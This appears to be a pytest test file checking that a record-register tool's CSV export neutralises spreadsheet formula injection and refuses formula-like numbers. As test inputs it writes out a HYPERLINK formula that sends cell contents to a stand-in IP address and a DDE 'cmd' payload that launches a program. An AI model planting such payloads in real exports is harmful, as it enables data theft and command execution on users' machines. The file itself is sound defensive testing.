"""Issue #24: the register's CSV export never hands a spreadsheet a formula.  A cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return (or their full-width forms, which some Excel locales also take) is
written with a leading ``'`` (OWASP, "CSV Injection": prefix such cells with a single quote, quote every
field), and a number typed by hand that would need it is refused where numbers are typed: a spec's ``number:``
in a workspace that keeps a register, and the ``register`` commands."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from conftest import spec_yaml
from verbale.cli import main as verbale
from verbale.cli.generate import main as generate

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
CONFIG = 'numbering: {pattern: "17-1/{seq}"}\nlanguages: [en]\n'


@pytest.fixture
def office(tmp_path, monkeypatch) -> Path:
    root = tmp_path / "office"
    (root / "notes").mkdir(parents=True)
    (root / "verbale.yaml").write_text(CONFIG, encoding="utf-8")
    monkeypatch.chdir(root)
    return root


def note(root: Path, name: str, purpose: str, number: str = "auto") -> Path:
    path = root / "notes" / name
    path.write_text(spec_yaml(number=number, languages=["en"], purpose={"en": purpose}), encoding="utf-8")
    return path


def exported(root: Path) -> str:
    assert verbale(["register", "export", "--csv", "register.csv"]) == 0
    return (root / "register.csv").read_bytes().decode("utf-8-sig")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_cells_a_spreadsheet_would_run_are_neutralised(office, capsys):
    note(office, "a.yaml", '=HYPERLINK("http://203.0.113.7/?"&A1,"open") forward the agenda')
    note(office, "b.yaml", "+cmd|' /C calc'!A0 forward the report")
    note(office, "-c.yaml", "@SUM(1+1) forward the list")
    note(office, "d.yaml", "\tforward the minutes")
    note(office, "e.yaml", "forward the plain note")
    assert generate([str(office / "notes"), "-o", str(office / "out")]) == 0, capsys.readouterr().err
    assert verbale(["register", "cancel", "17-1/5", "--why", "-2+3 sent in error"]) == 0
    assert verbale(["register", "cancel", "17-1/4", "--why", "=1+1"]) == 0
    text = exported(office)
    rows = cells(text)
    assert rows[0][0] == "number" and len(rows) == 6
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) and not cell.lstrip().startswith(FORMULA_STARTS), (cell, row)
    subjects = {row[5] for row in rows[1:]}
    assert "'" + '=HYPERLINK("http://203.0.113.7/?"&A1,"open") forward the agenda' in subjects
    assert "'+cmd|' /C calc'!A0 forward the report" in subjects and "'@SUM(1+1) forward the list" in subjects
    assert {row[0]: row[12] for row in rows[1:]}["17-1/5"] == "'-2+3 sent in error"
    assert any(cell.startswith("'-c.docx ") for row in rows for cell in row), "a file name is a cell too"
    assert "'=1+1" in text and "forward the plain note" in text
    # every field quoted, so a cell never runs into the next one (OWASP's second advice)
    assert text.splitlines()[1].startswith('"17-1/1","issued"')


@pytest.mark.parametrize("number", ["=1+1", "+7", "-5", "@A1", "＝1", " =1"])
def test_a_typed_number_a_spreadsheet_would_run_is_refused(office, capsys, number):
    spec = note(office, "typed.yaml", "forward the agenda", number=number)
    line = spec.read_text(encoding="utf-8").splitlines().index(
        next(l for l in spec.read_text(encoding="utf-8").splitlines() if l.startswith("number:"))) + 1
    for extra in ([], ["--check"]):
        assert generate([str(spec), "-o", str(office / "out"), *extra]) == 1
        err = capsys.readouterr().err.splitlines()
        assert len(err) == 1 and err[0].startswith(f"{spec}:{line}: number: "), err
        assert "a spreadsheet would read as a formula" in err[0]
    assert not (office / "out").exists()
    assert verbale(["register", "list"]) == 0 and capsys.readouterr().out == ""


@pytest.mark.parametrize("command", [["show", "=1+1"], ["cancel", "-5", "--why", "x"], ["show", "@A1"]])
def test_the_register_commands_refuse_such_a_number(office, capsys, command):
    note(office, "a.yaml", "forward the agenda")
    assert generate([str(office / "notes"), "-o", str(office / "out")]) == 0
    capsys.readouterr()
    assert verbale(["register", *command]) == 2
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 1 and "a spreadsheet would read as a formula" in err[0]


def test_a_pattern_whose_numbers_would_need_it_is_refused(office, capsys):
    (office / "verbale.yaml").write_text('numbering: {pattern: "-{seq}"}\n', encoding="utf-8")
    spec = note(office, "a.yaml", "forward the agenda")
    assert generate([str(spec), "-o", str(office / "out")]) == 1
    err = capsys.readouterr().err.splitlines()
    assert err == [f"{office / 'verbale.yaml'}:1: numbering.pattern: its numbers would start with '-', which a "
                   "spreadsheet would read as a formula (start the pattern with a letter or a digit)"]
